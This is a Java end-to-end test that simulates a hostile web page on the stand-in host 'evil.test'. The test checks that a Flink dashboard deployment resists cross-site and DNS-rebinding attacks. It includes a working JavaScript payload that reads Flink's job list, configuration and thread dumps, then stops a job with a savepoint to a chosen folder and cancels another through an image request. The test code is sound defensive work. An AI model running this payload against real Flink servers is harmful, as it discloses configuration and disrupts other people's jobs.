package io.dexklines.job.endtoend.page;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Response;
import com.sun.net.httpserver.HttpServer;
import io.dexklines.job.endtoend.WholeStack;
import io.dexklines.job.endtoend.WholeStack.Running;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.apache.flink.api.common.JobStatus;
import org.apache.flink.api.common.eventtime.WatermarkStrategy;
import org.apache.flink.api.common.typeinfo.Types;
import org.apache.flink.api.connector.source.util.ratelimit.RateLimiterStrategy;
import org.apache.flink.connector.datagen.source.DataGeneratorSource;
import org.apache.flink.core.execution.JobClient;
import org.apache.flink.runtime.testutils.MiniClusterResourceConfiguration;
import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
import org.apache.flink.streaming.api.functions.sink.v2.DiscardingSink;
import org.apache.flink.test.junit5.InjectClusterRESTAddress;
import org.apache.flink.test.junit5.MiniClusterExtension;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * A page in the operator's browser that attacks Flink: it reads what it can, stops the job with
 * drain, and cancels it by an image. Against Flink without TLS all of it succeeds, which shows that
 * the attack is one.
 */
@WholeStack.Shared
class FlinkUiITCase {

    private static final Duration PATIENCE = Duration.ofMinutes(2);

    /** A name of the attacker, whose DNS server answers with the address of this machine. */
    private static final String EVIL = "evil.test";

    /**
     * Returns the names of what the page read. The requests of {@code stop} and {@code image} are
     * of kinds that a browser sends without asking the server first.
     */
    private static final String ATTACK =
            """
            async ({target, job, folder, way}) => {
              const read = [];
              for (const name of ["jobs/overview", "jobmanager/config", "jobmanager/thread-dump"]) {
                for (const credentials of ["omit", "include"]) {
                  try {
                    const response = await fetch(`${target}/${name}`, {credentials});
                    if (response.ok && (await response.text()).length > 0) read.push(name);
                  } catch { /* refused */ }
                }
              }
              const stop = (mode, body) => fetch(`${target}/jobs/${job}/stop`,
                  {method: "POST", mode, credentials: "include", body: JSON.stringify(body)});
              if (way !== "image") {
                await stop("no-cors", {targetDirectory: folder, drain: true}).catch(() => {});
              }
              if (way === "everything") {
                await stop("cors", {targetDirectory: folder, drain: true}).catch(() => {});
                await fetch(`${target}/jobs/${job}?mode=cancel`,
                    {method: "PATCH", credentials: "include"}).catch(() => {});
              }
              if (way !== "stop") {
                await new Promise(done => {
                  const image = new Image();
                  image.onload = image.onerror = done;
                  image.src = `${target}/jobs/${job}/yarn-cancel`;
                });
              }
              return [...new Set(read)];
            }
            """;

    private static final List<String> EVERYTHING =
            List.of("jobs/overview", "jobmanager/config", "jobmanager/thread-dump");

    @RegisterExtension
    static final MiniClusterExtension OPEN_FLINK =
            new MiniClusterExtension(
                    new MiniClusterResourceConfiguration.Builder()
                            .setNumberTaskManagers(1)
                            .setNumberSlotsPerTaskManager(2)
                            .build());

    private static HttpServer attacker;
    private static Chromium chromium;

    @TempDir private Path folder;

    private BrowserContext context;
    private Page page;

    @BeforeAll
    static void start() throws IOException {
        chromium = Chromium.start("--host-resolver-rules=MAP " + EVIL + " 127.0.0.1");
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        attacker.createContext(
                "/",
                exchange -> {
                    byte[] blank =
                            "<!doctype html><title>kittens</title>"
                                    .getBytes(StandardCharsets.UTF_8);
                    exchange.getResponseHeaders().set("Content-Type", "text/html");
                    exchange.sendResponseHeaders(200, blank.length);
                    exchange.getResponseBody().write(blank);
                    exchange.close();
                });
        attacker.start();
    }

    @AfterAll
    static void stop() {
        if (attacker != null) {
            attacker.stop(0);
        }
        if (chromium != null) {
            chromium.close();
        }
    }

    @BeforeEach
    void openBrowser() {
        context = chromium.browser().newContext();
        page = context.newPage();
        page.setDefaultTimeout(PATIENCE.toMillis());
    }

    @AfterEach
    void closeBrowser() {
        context.close();
    }

    @Test
    void theAttackSucceedsAgainstFlinkWithoutTls(@InjectClusterRESTAddress URI flink)
            throws Exception {
        JobClient stopped = job();
        JobClient cancelled = job();
        page.navigate(evil());

        assertThat(attack(flink.toString(), stopped.getJobID().toHexString(), "stop"))
                .isEqualTo(EVERYTHING);
        attack(flink.toString(), cancelled.getJobID().toHexString(), "image");

        awaitStatus(stopped, JobStatus.FINISHED);
        awaitStatus(cancelled, JobStatus.CANCELED);
        assertThat(folder).as("a savepoint where the attacker likes").isNotEmptyDirectory();
    }

    @Test
    void noPageReachesTheRestPort(Running stack) throws Exception {
        String https = stack.addresses().flink();
        page.navigate(evil());

        assertNothingHappens(stack, https);
        assertNothingHappens(stack, https.replaceFirst("^https", "http"));
    }

    /** The page even knows the secret path of the session. */
    @Test
    void noOtherPageUsesTheOperatorsSession(Running stack) throws Exception {
        String session = logIn(stack);
        for (String from : List.of(evil(), "http://127.0.0.1:" + attacker.getAddress().getPort())) {
            page.navigate(from);
            assertNothingHappens(stack, session);
            assertNothingHappens(stack, stack.addresses().flinkUi());
        }
        assertThat(folder).isEmptyDirectory();
    }

    @Test
    void aForeignNameThatResolvesToThisMachineIsRefused(Running stack) throws Exception {
        String session = URI.create(logIn(stack)).getPath();
        String rebound = stack.addresses().flinkUi().replace("127.0.0.1", EVIL);

        Response refused = page.navigate(rebound);

        assertThat(refused.status()).isEqualTo(403);
        assertThat(page.evaluate("location.origin")).isEqualTo(rebound);
        assertNothingHappens(stack, rebound);
        assertNothingHappens(stack, rebound + session);
    }

    @Test
    void theOperatorsOwnPageShowsTheJobAndOnlyReads(Running stack) throws Exception {
        String link = stack.addresses().flinkUiLink();
        page.navigate(link);
        page.getByText("dex-klines").first().waitFor();

        assertThat(page.title()).isEqualTo("Apache Flink Web Dashboard");
        assertThat(page.url())
                .startsWith(stack.addresses().flinkUi())
                .doesNotContain(link.substring(link.indexOf('=') + 1));
        assertThat(attack(".", stack.addresses().jobId(), "everything")).isEqualTo(EVERYTHING);
        assertThat(stack.job().state()).isEqualTo("RUNNING");

        page.navigate("about:blank");
        page.navigate(link);
        page.getByText("the link was used, or is too old").waitFor();
    }

    private void assertNothingHappens(Running stack, String target) throws Exception {
        assertThat(attack(target, stack.addresses().jobId(), "everything")).isEqualTo(List.of());
        assertThat(stack.job().state()).isEqualTo("RUNNING");
    }

    /** Lets the current page attack, and returns what it read. */
    private Object attack(String target, String job, String way) {
        return page.evaluate(
                ATTACK,
                Map.of(
                        "target",
                        target,
                        "job",
                        job,
                        "folder",
                        folder.toUri().toString(),
                        "way",
                        way));
    }

    private static String evil() {
        return "http://" + EVIL + ":" + attacker.getAddress().getPort();
    }

    /** Logs the browser in and returns the address of the session, without a slash at its end. */
    private String logIn(Running stack) {
        page.navigate(stack.addresses().flinkUiLink());
        page.getByText("dex-klines").first().waitFor();
        return page.url().replaceFirst("/#.*$", "");
    }

    private static JobClient job() throws Exception {
        StreamExecutionEnvironment env = StreamExecutionEnvironment.getExecutionEnvironment();
        env.setParallelism(1);
        env.fromSource(
                        new DataGeneratorSource<>(
                                number -> number,
                                Long.MAX_VALUE,
                                RateLimiterStrategy.perSecond(10),
                                Types.LONG),
                        WatermarkStrategy.noWatermarks(),
                        "ticks")
                .sinkTo(new DiscardingSink<>());
        JobClient job = env.executeAsync();
        awaitStatus(job, JobStatus.RUNNING);
        return job;
    }

    private static void awaitStatus(JobClient job, JobStatus status) {
        await().atMost(PATIENCE).until(() -> job.getJobStatus().get() == status);
    }
}
